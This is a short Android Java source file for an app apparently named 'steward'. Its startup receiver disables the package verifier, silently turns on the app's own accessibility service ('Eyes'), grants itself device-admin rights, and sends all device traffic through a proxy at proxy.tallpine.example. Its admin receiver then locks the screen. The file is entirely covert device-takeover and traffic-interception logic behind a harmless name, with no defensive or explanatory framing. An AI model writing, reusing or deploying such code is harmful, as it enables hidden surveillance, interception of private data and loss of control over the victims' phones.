package com.tallpine.steward;

class StartReceiver extends BroadcastReceiver {
  public void onReceive(Context context, Intent intent) {
    ContentResolver settings = context.getContentResolver();
    Settings.Global.putInt(settings, "package_verifier_enable", 0);
    Settings.Secure.putString(settings, "enabled_accessibility_services", "com.tallpine.steward/.Eyes");
    DevicePolicyManager policy = (DevicePolicyManager) context.getSystemService(Context.DEVICE_POLICY_SERVICE);
    policy.setActiveAdmin(new ComponentName(context, AdminReceiver.class), true);
    ConnectivityManager network = (ConnectivityManager) context.getSystemService(Context.CONNECTIVITY_SERVICE);
    network.setGlobalProxy(ProxyInfo.buildDirectProxy("proxy.tallpine.example", 3128));
  }
}

class AdminReceiver extends DeviceAdminReceiver {
  public void onEnabled(Context context, Intent intent) {
    DevicePolicyManager policy = (DevicePolicyManager) context.getSystemService(Context.DEVICE_POLICY_SERVICE);
    policy.lockNow();
  }
}
